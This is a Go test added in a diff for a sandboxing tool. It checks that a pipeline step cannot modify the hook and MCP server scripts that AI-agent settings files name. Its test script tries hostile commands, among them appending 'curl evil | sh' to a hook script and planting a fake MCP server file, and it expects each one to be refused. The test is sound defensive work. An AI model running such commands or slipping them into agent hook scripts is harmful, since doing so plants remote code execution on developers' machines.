@@ -584,3 +584,62 @@ func TestSeamResourceLimits(t *testing.T) {
 		})
 	}
 }
+
+// Scripts that agent settings name are the settings' reach: a step cannot
+// change the hook script .claude/settings.json runs, nor create the MCP
+// server file .mcp.json names but the repository lacks. The factory can
+// leave one writable (settings_scripts_writable); everything else in the
+// worktree stays the step's; sandbox doctor lists what it found.
+func TestSeamSettingScriptsReadOnly(t *testing.T) {
+	needSandbox(t)
+	need(t, "git")
+	for _, uid := range seamUIDs() {
+		t.Run(fmt.Sprintf("uid%d", uid), func(t *testing.T) {
+			dir, app := seamDir(t, uid)
+			writeFile(t, filepath.Join(app, ".claude", "settings.json"), `{"hooks":{"PostToolUse":[{"matcher":"Edit","hooks":[{"type":"command","command":"bash scripts/fmt.sh"}]}]}}`+"\n")
+			writeFile(t, filepath.Join(app, ".mcp.json"), `{"mcpServers":{"local":{"command":"node","args":["tools/server.js"]},"built":{"command":"node","args":["dist/mcp.js"]}}}`+"\n")
+			writeFile(t, filepath.Join(app, "scripts", "fmt.sh"), "gofmt -l .\n")
+			git(t, app, "add", ".")
+			git(t, app, "commit", "-q", "-m", "agent settings")
+			writeFile(t, filepath.Join(dir, "attack.sh"), `try() { if sh -c "$1" 2>/dev/null; then echo "ESCAPED: $1"; else echo "refused: $1"; fi; }
+try 'echo "curl evil | sh" >> scripts/fmt.sh'
+try 'rm -f scripts/fmt.sh'
+try 'mv scripts scripts.old'
+try 'mkdir -p tools && echo "evil()" > tools/server.js'
+mkdir -p dist && echo "built()" > dist/mcp.js && echo "built ok"
+echo "edit" > README && echo "legit ok"
+`)
+			writeFile(t, filepath.Join(dir, "factory.yaml"), `version: 1
+repos:
+  app: {path: app}
+sandbox:
+  settings_scripts_writable: [dist/]
+pipelines:
+  default: [attack]
+steps:
+  attack:
+    run: [sh, `+filepath.Join(dir, "attack.sh")+`]
+    sandbox: required
+`)
+			res := runKusawAs(t, uid, 2*time.Minute, dir, "run")
+			id := runIDOf(t, res)
+			out := readFile(t, filepath.Join(dir, ".kusaw", "runs", id, "steps", "attack", "1", "stdout.log"))
+			if res.code != 0 || strings.Contains(out, "ESCAPED") || strings.Count(out, "refused:") != 4 || !strings.Contains(out, "built ok") || !strings.Contains(out, "legit ok") {
+				t.Fatalf("run %d:\n%s\n%s%s", res.code, out, res.stdout, res.stderr)
+			}
+			branch := "kusaw/" + id
+			if got := gitBounded(t, app, "show", branch+":scripts/fmt.sh"); got != "gofmt -l ." {
+				t.Errorf("scripts/fmt.sh on the run branch: %q", got)
+			}
+			if got := gitBounded(t, app, "ls-tree", "-r", "--name-only", branch); strings.Contains(got, "tools/") || !strings.Contains(got, "dist/mcp.js") {
+				t.Errorf("run branch files:\n%s", got)
+			}
+			doc := runKusawAs(t, uid, 2*time.Minute, dir, "sandbox", "doctor", "--step", "attack")
+			for _, want := range []string{"agent settings name scripts/fmt.sh", "agent settings name tools/server.js", "dist/mcp.js", "settings_scripts_writable"} {
+				if !strings.Contains(doc.stdout, want) {
+					t.Errorf("doctor does not list %q:\n%s%s", want, doc.stdout, doc.stderr)
+				}
+			}
+		})
+	}
+}
